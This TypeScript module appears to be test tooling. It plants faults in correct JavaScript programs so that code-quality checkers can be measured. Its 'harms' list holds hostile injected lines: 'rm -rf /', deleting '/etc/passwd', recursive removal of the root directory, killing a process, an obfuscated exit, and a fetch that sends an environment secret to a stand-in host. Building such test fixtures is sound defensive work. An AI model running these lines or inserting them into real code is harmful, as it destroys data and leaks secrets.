/**
 * Plants faults in programs that are right, by rule and by draw, so that the measures of quality can be measured: each should see its
 * own kinds, and no others. Not here: what the measures are.
 */

import { type AnyNode, type Identifier, type Node, parse, tokenizer } from "acorn";
import type { Random } from "../../src/random/index.ts";
import { mutantsOf } from "./mutate.ts";

/** The kinds of planted faults, and which part should see them. */
export const plantedKinds = {
  syntax: "syntactic",
  undeclared: "coherent",
  "lost declaration": "coherent",
  "lost return": "coherent",
  "no such member": "coherent",
  logic: "logical",
  harm: "ethical",
} as const;

export type PlantedKind = keyof typeof plantedKinds;

/** A program with a fault. */
export interface Planted {
  kind: PlantedKind;
  source: string;
}

/** Members that somebody who knows Python, or another language, would expect. */
const members: { [name: string]: string } = {
  length: "len",
  push: "append",
  includes: "contains",
  startsWith: "startswith",
  endsWith: "endswith",
  toUpperCase: "upper",
  toLowerCase: "lower",
  filter: "where",
  map: "select",
  sort: "sorted",
  reverse: "reversed",
  slice: "substr2",
  split: "splits",
  join: "joined",
};

const harms = [
  "require('child_process').exec('rm -rf /');",
  "process.exit(1);",
  "fetch('http://x.example/?k=' + process.env.KEY);",
  "require('fs').unlinkSync('/etc/passwd');",
  "new Function('return process')().kill(1);",
  "const scope = globalThis['pro' + 'cess'];\n  if (scope) scope['ex' + 'it'](0);",
  "try {\n    require('fs').rmSync('/', { recursive: true });\n  } catch {}",
];

/** A program with one fault of each kind that it has a place for. */
export function plant(source: string, random: Random): Planted[] {
  const planted: Planted[] = [];
  const places = placesOf(source);
  const put = (kind: PlantedKind, { start, end }: { start: number; end: number }, text: string): void => {
    planted.push({ kind, source: source.slice(0, start) + text + source.slice(end) });
  };
  // Of tokens: a bracket in a text closes nothing.
  const tokens = [...tokenizer(source, { ecmaVersion: "latest", sourceType: "module" })];
  const brackets = tokens.filter(({ type }) => /^[(){}[\]]$/.test(type.label)).slice(1);
  put("syntax", random.choice(brackets), "");
  if (places.uses.length > 0) {
    const used = random.choice(places.uses);
    put("undeclared", used, `${used.name}2`);
  }
  if (places.declarations.length > 0) put("lost declaration", random.choice(places.declarations), "");
  const last = places.returns.at(-1);
  if (last?.argument) put("lost return", last, `${source.slice(last.argument.start, last.argument.end)};`);
  const known = places.members.filter(({ name }) => Object.hasOwn(members, name));
  if (known.length > 0) {
    const member = random.choice(known);
    put("no such member", member, members[member.name]!);
  }
  const mutants = mutantsOf(source);
  if (mutants.length > 0) planted.push({ kind: "logic", source: random.choice(mutants).source });
  planted.push({ kind: "harm", source: source.replace("{\n", `{\n  ${random.choice(harms)}\n`) });
  return planted;
}

interface Places {
  /** Names that are read, of what the program declares itself. */
  uses: Identifier[];
  members: Identifier[];
  /** Whole statements that declare a name, but for the function itself. */
  declarations: Node[];
  returns: (AnyNode & { type: "ReturnStatement" })[];
}

function placesOf(source: string): Places {
  const found: Places = { uses: [], members: [], declarations: [], returns: [] };
  const declared = new Set<string>();
  const declare = (node: Node | null): void => {
    if (node?.type === "Identifier") declared.add((node as Identifier).name);
  };
  const all: { node: AnyNode; above: AnyNode | null; key: string }[] = [];
  const visit = (node: AnyNode, above: AnyNode | null, key: string): void => {
    all.push({ node, above, key });
    for (const [name, value] of Object.entries(node))
      for (const one of Array.isArray(value) ? value : [value])
        if (typeof (one as { type?: unknown } | null)?.type === "string") visit(one as AnyNode, node, name);
  };
  visit(parse(source, { ecmaVersion: "latest", sourceType: "module" }), null, "");
  for (const { node, above } of all) {
    if (node.type === "VariableDeclarator") declare(node.id);
    if (node.type === "ArrowFunctionExpression" || node.type === "FunctionDeclaration") node.params.forEach(declare);
    if (node.type === "VariableDeclaration" && above?.type === "BlockStatement") found.declarations.push(node);
    if (node.type === "ReturnStatement") found.returns.push(node);
    if (node.type === "MemberExpression" && !node.computed) found.members.push(node.property as Identifier);
  }
  for (const { node, above, key } of all)
    if (node.type === "Identifier" && declared.has(node.name) && above !== null && !isName(above, key))
      found.uses.push(node);
  return found;
}

/** Whether a name stands where one is made, or belongs to another thing. */
function isName(above: AnyNode, key: string): boolean {
  if (above.type === "VariableDeclarator") return key === "id";
  if (above.type === "MemberExpression") return key === "property" && !above.computed;
  if (above.type === "Property") return key === "key";
  return key === "params";
}
